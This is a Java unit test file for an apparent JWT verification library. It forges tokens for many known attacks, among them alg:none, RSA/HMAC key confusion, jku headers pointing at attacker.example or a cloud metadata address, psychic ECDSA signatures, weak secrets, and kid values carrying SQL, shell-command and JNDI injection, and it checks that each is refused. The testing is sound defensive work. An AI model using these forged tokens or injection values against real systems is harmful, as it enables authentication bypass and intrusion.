package dev.latchkey.signing;

import static dev.latchkey.signing.KeysForTests.signingKey;
import static dev.latchkey.signing.SigningAlgorithm.ES256;
import static dev.latchkey.signing.SigningAlgorithm.HS256;
import static dev.latchkey.signing.SigningAlgorithm.RS256;
import static dev.latchkey.signing.TokenForge.encode;
import static dev.latchkey.signing.TokenForge.header;
import static dev.latchkey.signing.TokenForge.macced;
import static dev.latchkey.signing.TokenForge.payload;
import static dev.latchkey.signing.TokenForge.signed;
import static dev.latchkey.signing.TokenForge.signedParts;
import static dev.latchkey.signing.TokenForge.withSignature;
import static dev.latchkey.signing.TokenKind.ACCESS;
import static dev.latchkey.signing.TokenKind.SESSION;
import static dev.latchkey.signing.TokenKind.TICKET;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.latchkey.json.Json;
import dev.latchkey.problem.Reason;
import dev.latchkey.problem.RefusedException;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyFactory;
import java.security.spec.RSAPublicKeySpec;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The known attacks on readers of JWTs, each beside an accepted token from which it differs in one thing. Attacks on key
 * sets are in {@link KeySetTest}, the many spellings of one token in {@link TokenSpellingTest}.
 */
class TokenAttackTest {
    private static final SigningKey HS = signingKey(ACCESS, HS256);
    private static final SigningKey ES = signingKey(ACCESS, ES256);
    private static final SigningKey RS = signingKey(ACCESS, RS256);
    private static final SigningKey SESSION_KEY = signingKey(SESSION, ES256);
    private static final SigningKey TICKET_KEY = signingKey(TICKET, HS256);

    private static final String NO_CLAIMS = payload("");
    private static final String TWIN = signed(HS, header(HS), NO_CLAIMS);
    private static final String ES_TWIN = signed(ES, header(ES), NO_CLAIMS);
    private static final String RS_TWIN = signed(RS, header(RS), NO_CLAIMS);
    private static final BigInteger P256_ORDER =
            new BigInteger("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", 16);

    private final Jwts jwts = new Jwts(new KeysForTests());

    /** One attack: what is presented, the accepted token beside it, and the check that must stop it. */
    private record Attack(String name, TokenKind kind, String twin, String forged, String stoppedBy) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static Attack attack(String name, String forged, String stoppedBy) {
        return new Attack(name, ACCESS, TWIN, forged, stoppedBy);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource({
        "algorithms",
        "keyConfusion",
        "foreignKeysInTheHeader",
        "weakSecretsAndNoSignatures",
        "keyNames",
        "ellipticSignatures",
        "shapes",
        "sizes",
        "text",
        "numbers",
        "kinds",
        "strangers"
    })
    void isRefused(Attack attack) {
        assertThatCode(() -> jwts.verify(attack.kind(), attack.twin())).doesNotThrowAnyException();
        assertThat(attack.forged()).isNotEqualTo(attack.twin());

        RefusedException refusal =
                catchThrowableOfType(RefusedException.class, () -> jwts.verify(attack.kind(), attack.forged()));

        assertThat(refusal).isNotNull();
        assertThat(refusal.reason()).isEqualTo(Reason.TOKEN_INVALID);
        assertThat(refusal.detail()).contains(attack.stoppedBy());
        assertRepeatsNothingOf(attack.forged(), refusal.detail());
    }

    private static void assertRepeatsNothingOf(String token, String detail) {
        for (String part : token.split("[^A-Za-z0-9_-]+", -1)) {
            if (part.length() > 8) {
                assertThat(detail).doesNotContain(part);
            }
        }
    }

    // alg:none and its case variants (CVE-2015-2951), and every other algorithm that the key is not for.
    static Stream<Attack> algorithms() {
        List<Attack> attacks = new ArrayList<>();
        for (String algorithm : List.of(
                "none",
                "None",
                "NONE",
                "nOnE",
                "",
                "hs256",
                "HS256 ",
                "HS384",
                "HS512",
                "ES256",
                "RS256",
                "PS256",
                "EdDSA",
                "dir",
                "PBES2-HS256+A128KW")) {
            String header = header(HS, "\"" + algorithm + "\"", "\"JWT\"", "\"" + HS.kid() + "\"");
            attacks.add(attack(
                    "alg \"" + algorithm + "\" over a genuine signature",
                    signed(HS, header, NO_CLAIMS),
                    "its alg is not the one of its key"));
            attacks.add(attack(
                    "alg \"" + algorithm + "\" without a signature",
                    encode(header) + "." + encode(NO_CLAIMS) + ".",
                    "its signature is empty"));
        }
        for (String notText : List.of("null", "256", "true", "[\"HS256\"]", "{\"HS256\":1}")) {
            attacks.add(attack(
                    "alg " + notText,
                    signed(HS, header(HS, notText, "\"JWT\"", "\"" + HS.kid() + "\""), NO_CLAIMS),
                    "its alg is not a text"));
        }
        attacks.add(attack(
                "no alg",
                signed(HS, "{\"typ\":\"JWT\",\"kid\":\"" + HS.kid() + "\"}", NO_CLAIMS),
                "its header is not exactly alg, typ and kid"));
        return attacks.stream();
    }

    // A public key used as an HMAC secret, in every spelling an attacker could guess (CVE-2016-10555).
    static Stream<Attack> keyConfusion() throws GeneralSecurityException {
        Map<String, String> rsa = RS.material().publicMembers();
        byte[] der = KeyFactory.getInstance("RSA")
                .generatePublic(new RSAPublicKeySpec(number(rsa.get("n")), number(rsa.get("e"))))
                .getEncoded();
        String base64 = Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der);
        String pem = "-----BEGIN PUBLIC KEY-----\n" + base64 + "\n-----END PUBLIC KEY-----";
        String confused = header(RS, "\"HS256\"", "\"JWT\"", "\"" + RS.kid() + "\"");
        List<Attack> attacks = new ArrayList<>();
        Map<String, byte[]> guesses = Map.of(
                "DER", der,
                "PEM", utf8(pem),
                "PEM with a newline", utf8(pem + "\n"),
                "modulus", TokenForge.decode(rsa.get("n")),
                "published set", utf8(KeysForTests.SET.publicJwks(ACCESS)));
        guesses.forEach((name, secret) -> attacks.add(new Attack(
                "RSA public key as HMAC secret: " + name,
                ACCESS,
                RS_TWIN,
                macced(secret, confused, NO_CLAIMS),
                "its alg is not the one of its key")));
        attacks.add(new Attack(
                "EC public key as HMAC secret",
                ACCESS,
                ES_TWIN,
                macced(
                        utf8(ES.material().publicMembers().toString()),
                        header(ES, "\"HS256\"", "\"JWT\"", "\"" + ES.kid() + "\""),
                        NO_CLAIMS),
                "its alg is not the one of its key"));
        attacks.add(new Attack(
                "an HMAC key's kid with another key's genuine signature",
                ACCESS,
                ES_TWIN,
                signed(ES, header(ES, "\"ES256\"", "\"JWT\"", "\"" + HS.kid() + "\""), NO_CLAIMS),
                "its alg is not the one of its key"));
        attacks.add(new Attack(
                "the kid of another key with the same algorithm",
                ACCESS,
                TWIN,
                signed(HS, header(HS, "\"HS256\"", "\"JWT\"", "\"" + nextKey().kid() + "\""), NO_CLAIMS),
                "its signature is not genuine"));
        return attacks.stream();
    }

    // A key of the attacker's own, brought along (CVE-2018-0114) or to be fetched (SSRF), and members that change
    // meaning.
    static Stream<Attack> foreignKeysInTheHeader() {
        SigningKey own = new NewKeys().make(ACCESS, ES256, KeyState.SIGNING, KeysForTests.NOON);
        String ownJwk = Json.write(own.material().publicMembers());
        List<Attack> attacks = new ArrayList<>();
        attacks.add(new Attack(
                "embedded jwk, signed with it",
                ACCESS,
                ES_TWIN,
                signed(own, headerWith(ES, "\"jwk\":" + ownJwk), NO_CLAIMS),
                "its header is not exactly alg, typ and kid"));
        attacks.add(new Attack(
                "signed with a stranger's key under our kid",
                ACCESS,
                ES_TWIN,
                signed(own, header(ES), NO_CLAIMS),
                "its signature is not genuine"));
        for (String member : List.of(
                "\"jwk\":" + ownJwk,
                "\"jku\":\"https://attacker.example/keys\"",
                "\"jku\":\"http://169.254.169.254/latest/meta-data\"",
                "\"x5u\":\"https://attacker.example/cert\"",
                "\"x5c\":[\"MIIB\"]",
                "\"x5t\":\"AAAA\"",
                "\"x5t#S256\":\"AAAA\"",
                "\"crit\":[\"exp\"]",
                "\"crit\":[]",
                "\"crit\":[\"b64\"],\"b64\":false",
                "\"b64\":false",
                "\"b64\":true",
                "\"zip\":\"DEF\"",
                "\"enc\":\"A128GCM\"",
                "\"cty\":\"JWT\"",
                "\"p2c\":2147483647,\"p2s\":\"AAAA\"",
                "\"epk\":{}",
                "\"ALG\":\"none\"",
                "\"x\":1")) {
            attacks.add(attack(
                    "header with " + member,
                    signed(HS, headerWith(HS, member), NO_CLAIMS),
                    "its header is not exactly alg, typ and kid"));
        }
        return attacks.stream();
    }

    // Blank and guessable secrets (CVE-2019-20933, CVE-2020-28637), null signatures (CVE-2020-28042).
    static Stream<Attack> weakSecretsAndNoSignatures() {
        List<Attack> attacks = new ArrayList<>();
        Map<String, byte[]> secrets = Map.of(
                "blank", new byte[1], // HMAC pads its key with zeros, so this is the empty key
                "32 zeros", new byte[32],
                "the word secret", utf8("secret"),
                "null", utf8("null"),
                "the kid", utf8(HS.kid()),
                "the issuer", utf8("latchkey"));
        secrets.forEach((name, secret) -> attacks.add(
                attack("HMAC secret: " + name, macced(secret, header(HS), NO_CLAIMS), "its signature is not genuine")));
        for (int length : List.of(1, 16, 31, 32, 33, 64)) {
            attacks.add(attack(
                    "a signature of " + length + " zeros",
                    withSignature(TWIN, new byte[length]),
                    "its signature is not genuine"));
        }
        attacks.add(attack("null signature", withSignature(TWIN, new byte[0]), "its signature is empty"));
        attacks.add(attack("no third part", TWIN.substring(0, TWIN.lastIndexOf('.')), "three parts"));
        byte[] genuine = TokenForge.signatureOf(TWIN);
        attacks.add(attack(
                "a signature cut short",
                withSignature(TWIN, Arrays.copyOf(genuine, 31)),
                "its signature is not genuine"));
        attacks.add(attack(
                "a signature with one byte more",
                withSignature(TWIN, Arrays.copyOf(genuine, 33)),
                "its signature is not genuine"));
        attacks.add(attack(
                "the signature of another payload",
                withSignature(signed(HS, header(HS), payload("\"x\":1")), genuine),
                "its signature is not genuine"));
        attacks.add(attack(
                "another header over the signature",
                encode(header(HS, "\"HS256\" ", "\"JWT\"", "\"" + HS.kid() + "\"")) + TWIN.substring(TWIN.indexOf('.')),
                "its signature is not genuine"));
        byte[] rsa = TokenForge.signatureOf(RS_TWIN);
        attacks.add(new Attack(
                "an RSA signature of zeros",
                ACCESS,
                RS_TWIN,
                withSignature(RS_TWIN, new byte[rsa.length]),
                "its signature is not genuine"));
        byte[] one = new byte[rsa.length];
        one[rsa.length - 1] = 1;
        attacks.add(new Attack(
                "an RSA signature of one",
                ACCESS,
                RS_TWIN,
                withSignature(RS_TWIN, one),
                "its signature is not genuine"));
        attacks.add(new Attack(
                "an RSA signature with a leading zero",
                ACCESS,
                RS_TWIN,
                withSignature(RS_TWIN, concat(new byte[1], rsa)),
                "its signature is not genuine"));
        return attacks.stream();
    }

    // kid as a path, a query, a command, an address; and kid that is no text at all.
    static Stream<Attack> keyNames() {
        List<Attack> attacks = new ArrayList<>();
        for (String kid : List.of(
                "../../../../../../dev/null",
                "/dev/null",
                "file:///dev/null",
                "x' UNION SELECT 'k' -- ",
                "' OR 1=1 --",
                "$(id)",
                "`id`",
                "|id",
                "; sleep 9",
                "https://attacker.example/k",
                "k\\u0000",
                "k\\n",
                "k\\u202e",
                "",
                " ",
                "*",
                "a.b",
                "${jndi:ldap://attacker.example}",
                "x".repeat(65))) {
            attacks.add(attack(
                    "kid " + kid,
                    signed(HS, header(HS, "\"HS256\"", "\"JWT\"", "\"" + kid + "\""), NO_CLAIMS),
                    "its kid is not one of a key"));
        }
        for (String kid : List.of("null", "0", "true", "[]", "{}", "[\"" + HS.kid() + "\"]")) {
            attacks.add(attack(
                    "kid " + kid,
                    signed(HS, header(HS, "\"HS256\"", "\"JWT\"", kid), NO_CLAIMS),
                    "its kid is not a text"));
        }
        attacks.add(attack(
                "no kid",
                signed(HS, "{\"alg\":\"HS256\",\"typ\":\"JWT\"}", NO_CLAIMS),
                "its header is not exactly alg, typ and kid"));
        attacks.add(attack(
                "an invented kid",
                signed(HS, header(HS, "\"HS256\"", "\"JWT\"", "\"" + "A".repeat(43) + "\""), NO_CLAIMS),
                "no key has its kid"));
        attacks.add(attack(
                "our kid in other letters",
                signed(HS, header(HS, "\"HS256\"", "\"JWT\"", "\"" + otherCase(HS.kid()) + "\""), NO_CLAIMS),
                "no key has its kid"));
        return attacks.stream();
    }

    // Signatures that a careless verifier takes for every message (CVE-2022-21449), and other encodings of a genuine
    // one.
    static Stream<Attack> ellipticSignatures() throws GeneralSecurityException {
        List<Attack> attacks = new ArrayList<>();
        Map<String, BigInteger> numbers = Map.of(
                "0", BigInteger.ZERO, "1", BigInteger.ONE, "n-1", P256_ORDER.subtract(BigInteger.ONE), "n", P256_ORDER);
        numbers.forEach((rName, r) -> numbers.forEach((sName, s) ->
                attacks.add(elliptic("ECDSA r = " + rName + ", s = " + sName, concat(fixed(r), fixed(s))))));
        byte[] genuine = TokenForge.signatureOf(ES_TWIN);
        byte[] r = Arrays.copyOfRange(genuine, 0, 32);
        byte[] s = Arrays.copyOfRange(genuine, 32, 64);
        attacks.add(elliptic("a genuine r with s = 0", concat(r, new byte[32])));
        attacks.add(elliptic("a genuine s with r = 0", concat(new byte[32], s)));
        attacks.add(elliptic("r and s changed places", concat(s, r)));
        attacks.add(elliptic("r plus n", concat(overflow(r), s)));
        attacks.add(elliptic("DER instead of raw", der(r, s)));
        attacks.add(elliptic("one zero before r and s", concat(concat(new byte[1], r), concat(new byte[1], s))));
        attacks.add(elliptic("half a signature", r));
        attacks.add(elliptic("one byte", new byte[] {0x30}));
        attacks.add(elliptic("all ones", filled(64)));
        return attacks.stream();
    }

    private static Attack elliptic(String name, byte[] signature) {
        return new Attack(name, ACCESS, ES_TWIN, withSignature(ES_TWIN, signature), "its signature is not genuine");
    }

    // JSON serialisation taken for compact, JWE, and wrong numbers of parts (go-jose CVE-2025-27144).
    static Stream<Attack> shapes() {
        String[] parts = TWIN.split("\\.", -1);
        String flattened = "{\"protected\":\"" + parts[0] + "\",\"payload\":\"" + parts[1] + "\",\"signature\":\""
                + parts[2] + "\"}";
        return Stream.of(
                attack("flattened JSON serialisation", flattened, "three parts"),
                attack(
                        "general JSON serialisation",
                        "{\"payload\":\"" + parts[1] + "\",\"signatures\":[{\"protected\":\"" + parts[0]
                                + "\",\"signature\":\"" + parts[2] + "\"}]}",
                        "three parts"),
                attack("compact hidden in JSON", "{\"token\":\"" + TWIN + "\"}", "its header is not base64url"),
                attack("five parts, as a JWE", TWIN + ".AAAA.AAAA", "three parts"),
                attack("four parts", TWIN + ".AAAA", "three parts"),
                attack("a dot at the end", TWIN + ".", "three parts"),
                attack("a dot at the beginning", "." + TWIN, "three parts"),
                attack("two dots together", TWIN.replaceFirst("\\.", ".."), "three parts"),
                attack("no header", TWIN.substring(TWIN.indexOf('.')), "its header is empty"),
                attack("no payload", signedParts(HS, encode(header(HS)), ""), "its payload is empty"),
                attack("nothing", "", "three parts"),
                attack("two dots alone", "..", "its header is empty"),
                attack("the scheme before the token", "Bearer " + TWIN, "its header is not base64url"),
                attack("two tokens", TWIN + "," + TWIN, "three parts"),
                attack(
                        "header and payload changed places",
                        signedParts(HS, parts[1], parts[0]),
                        "its header is not exactly alg, typ and kid"),
                attack("a token as the payload", signed(HS, header(HS), "\"" + TWIN + "\""), "its payload is not"),
                attack("payload is a list", signed(HS, header(HS), "[]"), "its payload is not a JSON object"),
                attack("payload is null", signed(HS, header(HS), "null"), "its payload is not a JSON object"),
                attack("payload is white space", signed(HS, header(HS), " "), "its payload is empty"),
                attack("payload ends early", signed(HS, header(HS), "{\"jti\":\"t1\""), "its payload is not JSON"),
                attack("something after the payload", signed(HS, header(HS), NO_CLAIMS + "{}"), "its payload goes on"),
                attack("header is a list", signed(HS, "[]", NO_CLAIMS), "its header is not a JSON object"),
                attack("something after the header", signed(HS, header(HS) + "x", NO_CLAIMS), "its header is not JSON"),
                attack("a comment", signed(HS, header(HS), "{\"jti\":\"t1\"/**/}"), "its payload is not JSON"),
                attack("single quotes", signed(HS, header(HS), "{'jti':'t1'}"), "its payload is not JSON"),
                attack("a comma too many", signed(HS, header(HS), "{\"jti\":\"t1\",}"), "its payload is not JSON"),
                attack("names without quotes", signed(HS, header(HS), "{jti:\"t1\"}"), "its payload is not JSON"));
    }

    // A megabyte, thousands of dots, deep nesting: refused before they cost anything.
    static Stream<Attack> sizes() {
        String longest = ofLength(ACCESS.maxLength());
        int levels = 32;
        String deepest = signed(HS, header(HS), nested(levels));
        return Stream.of(
                new Attack("one character too long", ACCESS, longest, ofLength(ACCESS.maxLength() + 1), "longer"),
                new Attack("a megabyte", ACCESS, longest, ofLength(1_000_000), "longer"),
                attack("twenty-five thousand dots", ".".repeat(25_000), "longer"),
                attack("a megabyte of dots", ".".repeat(1_000_000), "longer"),
                attack("as many dots as fit", ".".repeat(ACCESS.maxLength()), "three parts"),
                attack("dots after a token", TWIN + ".".repeat(1000), "three parts"),
                new Attack(
                        "one level too deep",
                        ACCESS,
                        deepest,
                        signed(HS, header(HS), nested(levels + 1)),
                        "its payload is nested too deeply"),
                attack(
                        "thousands of objects inside each other",
                        signed(HS, header(HS), "{\"a\":".repeat(900)),
                        "its payload is nested too deeply"),
                attack(
                        "thousands of lists inside each other",
                        signed(HS, header(HS), "{\"a\":" + "[".repeat(5000)),
                        "its payload is nested too deeply"),
                attack(
                        "a deep header",
                        signed(HS, headerWith(HS, "\"x\":" + "[".repeat(100) + "]".repeat(100)), NO_CLAIMS),
                        "its header is nested too deeply"));
    }

    // One claim twice, half characters, bytes that are no UTF-8: two readers could read two things.
    static Stream<Attack> text() {
        String pair = signed(HS, header(HS), payload("\"name\":\"\\ud83d\\ude00\""));
        List<Attack> attacks = new ArrayList<>(List.of(
                attack("one claim twice", signed(HS, header(HS), payload("\"jti\":\"t2\"")), "its payload is not JSON"),
                attack(
                        "one claim twice, spelled with an escape",
                        signed(HS, header(HS), payload("\"\\u006ati\":\"t2\"")),
                        "its payload is not JSON"),
                attack(
                        "one claim twice, deep inside",
                        signed(HS, header(HS), payload("\"data\":{\"a\":[{\"isAdmin\":false,\"isAdmin\":true}]}")),
                        "its payload is not JSON"),
                attack(
                        "alg twice",
                        signed(HS, headerWith(HS, "\"alg\":\"none\""), NO_CLAIMS),
                        "its header is not JSON"),
                attack(
                        "kid twice",
                        signed(HS, headerWith(HS, "\"kid\":\"" + ES.kid() + "\""), NO_CLAIMS),
                        "its header is not JSON"),
                new Attack(
                        "half a character",
                        ACCESS,
                        pair,
                        signed(HS, header(HS), payload("\"name\":\"\\ud83d\"")),
                        "unpaired surrogate"),
                new Attack(
                        "the other half",
                        ACCESS,
                        pair,
                        signed(HS, header(HS), payload("\"name\":\"\\ude00\"")),
                        "unpaired surrogate"),
                new Attack(
                        "halves changed places",
                        ACCESS,
                        pair,
                        signed(HS, header(HS), payload("\"name\":\"\\ude00\\ud83d\"")),
                        "unpaired surrogate"),
                new Attack(
                        "half a character in a claim's name",
                        ACCESS,
                        pair,
                        signed(HS, header(HS), payload("\"\\ud83d\":1")),
                        "unpaired surrogate"),
                new Attack(
                        "half a character deep inside",
                        ACCESS,
                        pair,
                        signed(HS, header(HS), payload("\"data\":{\"a\":[{\"b\":\"\\udfff\"}]}")),
                        "unpaired surrogate"),
                attack(
                        "a raw control character",
                        signed(HS, header(HS), payload("\"name\":\"\u0001\"")),
                        "its payload is not JSON"),
                attack("a byte order mark", signed(HS, header(HS), "\ufeff" + NO_CLAIMS), "its payload is not JSON"),
                attack(
                        "a byte order mark in the header",
                        signed(HS, "\ufeff" + header(HS), NO_CLAIMS),
                        "its header is not JSON")));
        Map<String, byte[]> notUtf8 = Map.of(
                "a lone continuation byte", bytes(0x80),
                "an overlong slash", bytes(0xc0, 0xaf),
                "an overlong NUL", bytes(0xc0, 0x80),
                "a surrogate in UTF-8", bytes(0xed, 0xa0, 0x80),
                "beyond Unicode", bytes(0xf4, 0x90, 0x80, 0x80),
                "a character cut short", bytes(0xe2, 0x82),
                "a byte that is never UTF-8", bytes(0xff),
                "Latin-1", "ä".getBytes(StandardCharsets.ISO_8859_1));
        notUtf8.forEach((name, wrong) -> attacks.add(attack(
                name,
                signed(HS, header(HS), concat(concat(utf8("{\"name\":\""), wrong), utf8("\"}"))),
                "its payload is not UTF-8")));
        attacks.add(attack(
                "UTF-16",
                signed(HS, header(HS), NO_CLAIMS.getBytes(StandardCharsets.UTF_16)),
                "its payload is not UTF-8"));
        attacks.add(attack(
                "UTF-16 without a mark",
                signed(HS, header(HS), NO_CLAIMS.getBytes(StandardCharsets.UTF_16BE)),
                "its payload is not JSON"));
        return attacks.stream();
    }

    // Times that one reader takes for never and another for long ago.
    static Stream<Attack> numbers() {
        List<Attack> attacks = new ArrayList<>();
        for (String time : List.of("exp", "nbf", "iat")) {
            String twin = signed(HS, header(HS), payload("\"" + time + "\":1767268800"));
            for (String value : List.of(
                    "\"1767268800\"",
                    "\"\"",
                    "\"never\"",
                    "null",
                    "true",
                    "[]",
                    "[1767268800]",
                    "{}",
                    "1.5",
                    "1.0",
                    "1e3",
                    "-1",
                    "-0.0",
                    "-9223372036854775808",
                    "9007199254740993",
                    "9223372036854775807",
                    "9223372036854775808",
                    "99999999999999999999999999")) {
                attacks.add(new Attack(
                        time + " is " + value,
                        ACCESS,
                        twin,
                        signed(HS, header(HS), payload("\"" + time + "\":" + value)),
                        "its " + time + " is not a whole number of seconds"));
            }
            for (String value : List.of(
                    "1e400",
                    "-1e400",
                    "1e2147483648",
                    "NaN",
                    "Infinity",
                    "-Infinity",
                    "01",
                    "+1",
                    "0x10",
                    "1_000",
                    ".5",
                    "5.",
                    "1".repeat(1000))) {
                attacks.add(new Attack(
                        time + " is " + (value.length() > 20 ? "1000 digits" : value),
                        ACCESS,
                        twin,
                        signed(HS, header(HS), payload("\"" + time + "\":" + value)),
                        "its payload"));
            }
        }
        attacks.add(attack(
                "a number out of range elsewhere",
                signed(HS, header(HS), payload("\"data\":{\"x\":[1e400]}")),
                "out of range"));
        return attacks.stream();
    }

    // A token of one kind presented as another: as it is, and with the typ of the other over a genuine signature.
    static Stream<Attack> kinds() {
        List<Attack> attacks = new ArrayList<>();
        Map<TokenKind, SigningKey> keys = Map.of(ACCESS, HS, SESSION, SESSION_KEY, TICKET, TICKET_KEY);
        for (TokenKind held : TokenKind.values()) {
            for (TokenKind wanted : TokenKind.values()) {
                if (held != wanted) {
                    SigningKey key = keys.get(held);
                    String twin = signed(keys.get(wanted), header(keys.get(wanted)), NO_CLAIMS);
                    attacks.add(new Attack(
                            held + " token presented as " + wanted,
                            wanted,
                            twin,
                            signed(key, header(key), NO_CLAIMS),
                            "its typ is not the one of this kind of token"));
                    attacks.add(new Attack(
                            held + " key with the typ of " + wanted,
                            wanted,
                            twin,
                            signed(
                                    key,
                                    header(
                                            key,
                                            "\"" + key.algorithm() + "\"",
                                            "\"" + wanted.type() + "\"",
                                            "\"" + key.kid() + "\""),
                                    NO_CLAIMS),
                            "its key is for another kind of token"));
                }
            }
        }
        for (String type :
                List.of("jwt", "Jwt", "application/jwt", "at+jwt", "JOSE", "", " JWT", "session+jwt\\u0000")) {
            attacks.add(attack(
                    "typ \"" + type + "\"",
                    signed(HS, header(HS, "\"HS256\"", "\"" + type + "\"", "\"" + HS.kid() + "\""), NO_CLAIMS),
                    "its typ is not the one of this kind of token"));
        }
        attacks.add(attack(
                "no typ",
                signed(HS, "{\"alg\":\"HS256\",\"kid\":\"" + HS.kid() + "\"}", NO_CLAIMS),
                "its header is not exactly alg, typ and kid"));
        attacks.add(attack(
                "typ null",
                signed(HS, header(HS, "\"HS256\"", "null", "\"" + HS.kid() + "\""), NO_CLAIMS),
                "its typ is not a text"));
        return attacks.stream();
    }

    // What belongs somewhere else: other services' tokens and our other secrets.
    static Stream<Attack> strangers() {
        byte[] secret = utf8("a LiveKit secret, or another one of 32 bytes");
        return Stream.of(
                attack("an API key", "lk_" + "A".repeat(43), "three parts"),
                attack(
                        "a LiveKit token",
                        macced(
                                secret,
                                "{\"alg\":\"HS256\"}",
                                "{\"iss\":\"APIkey\",\"sub\":\"u\",\"video\":{\"roomJoin\":true,\"room\":\"r\"}}"),
                        "its header is not exactly alg, typ and kid"),
                attack(
                        "a 100ms management token",
                        macced(
                                secret,
                                "{\"alg\":\"HS256\",\"typ\":\"JWT\"}",
                                "{\"access_key\":\"k\",\"type\":\"management\",\"version\":2,\"jti\":\"x\"}"),
                        "its header is not exactly alg, typ and kid"),
                attack(
                        "a JaaS token",
                        signed(RS, header(RS, "\"RS256\"", "\"JWT\"", "\"vpaas-magic-cookie-1/2\""), NO_CLAIMS),
                        "its kid is not one of a key"),
                attack(
                        "a webhook's JWT",
                        macced(secret, header(HS), "{\"iss\":\"k\",\"exp\":1767268800,\"sha256\":\"AAAA\"}"),
                        "its signature is not genuine"));
    }

    private static SigningKey nextKey() {
        return KeysForTests.keys().stream()
                .filter(key -> key.kind() == ACCESS && key.algorithm() == HS256 && key.state() == KeyState.NEXT)
                .findFirst()
                .orElseThrow();
    }

    private static String headerWith(SigningKey key, String member) {
        String header = header(key);
        return header.substring(0, header.length() - 1) + "," + member + "}";
    }

    private static String nested(int levels) {
        return "{\"a\":" + "[".repeat(levels - 1) + "]".repeat(levels - 1) + "}";
    }

    /** A genuine token of so many characters; spaces in the header help where base64 has no text of the right length. */
    private static String ofLength(int length) {
        for (int spaces = 0; spaces < 4; spaces++) {
            String header = header(HS) + " ".repeat(spaces);
            int room = length - 2 - encode(header).length() - 43;
            String payload = "{\"x\":\"" + "x".repeat(room * 3 / 4 - 8) + "\"}";
            String token = signed(HS, header, payload);
            if (token.length() == length) {
                return token;
            }
        }
        throw new AssertionError("no token has " + length + " characters");
    }

    private static String otherCase(String text) {
        StringBuilder other = new StringBuilder();
        text.chars()
                .forEach(c -> other.append(
                        (char) (Character.isUpperCase(c) ? Character.toLowerCase(c) : Character.toUpperCase(c))));
        return other.toString();
    }

    private static BigInteger number(String base64Url) {
        return new BigInteger(1, TokenForge.decode(base64Url));
    }

    private static byte[] fixed(BigInteger number) {
        return TokenForge.decode(JwkMembers.spellFixedLength(number, 32));
    }

    /** The same number modulo n, one n higher; cut to 32 bytes where it does not fit. */
    private static byte[] overflow(byte[] number) {
        return fixed(new BigInteger(1, number).add(P256_ORDER));
    }

    private static byte[] der(byte[] r, byte[] s) {
        byte[] first = new BigInteger(1, r).toByteArray();
        byte[] second = new BigInteger(1, s).toByteArray();
        byte[] body = concat(concat(bytes(2, first.length), first), concat(bytes(2, second.length), second));
        return concat(bytes(0x30, body.length), body);
    }

    private static byte[] filled(int length) {
        byte[] bytes = new byte[length];
        Arrays.fill(bytes, (byte) 0xff);
        return bytes;
    }

    private static byte[] bytes(int... values) {
        byte[] bytes = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }

    private static byte[] concat(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
